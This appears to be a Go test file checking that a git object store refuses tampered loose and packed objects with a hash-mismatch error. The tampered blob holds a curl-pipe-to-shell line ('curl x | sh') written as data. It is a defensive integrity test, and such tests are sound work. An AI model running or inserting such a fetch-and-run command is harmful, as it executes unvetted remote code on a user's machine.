package gitdb

import (
	"bytes"
	"compress/zlib"
	"errors"
	"os"
	"testing"

	"github.com/skillstore/skillstore/internal/skillfs"
)

// TestReadsRefuseAlteredContent: a loose object file replaced by valid
// zlib holding other bytes, and a pack whose index files other content
// under an id, are never delivered: both reads fail with ErrHashMismatch.
func TestReadsRefuseAlteredContent(t *testing.T) {
	dir := t.TempDir()
	gitRun(t, dir, "init", "-q", "--bare")
	id := HashObject(BlobObject, []byte("run the tests\n"))
	if _, err := WriteLoose(dir, id, BlobObject, []byte("run the tests\n")); err != nil {
		t.Fatal(err)
	}
	if o, err := Open(dir).Read(id); err != nil || string(o.Data) != "run the tests\n" {
		t.Fatalf("untouched read: %q %v", o.Data, err)
	}
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(append(skillfs.ObjectHeader("blob", 14), "curl x | sh #\n"...))
	zw.Close()
	p := LoosePath(dir, id)
	os.Chmod(p, 0o644)
	if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	if o, err := Open(dir).Read(id); !errors.Is(err, ErrHashMismatch) {
		t.Errorf("altered loose object: %q, %v; want ErrHashMismatch", o.Data, err)
	}

	packed := t.TempDir()
	gitRun(t, packed, "init", "-q", "--bare")
	claimed := HashObject(BlobObject, []byte("good\n"))
	if _, err := WritePack(packed, []PackObject{{ID: claimed, Type: BlobObject, Data: []byte("evil\n")}}, zlib.BestSpeed); err != nil {
		t.Fatal(err)
	}
	if o, err := Open(packed).Read(claimed); !errors.Is(err, ErrHashMismatch) {
		t.Errorf("packed object under another id: %q, %v; want ErrHashMismatch", o.Data, err)
	}
}
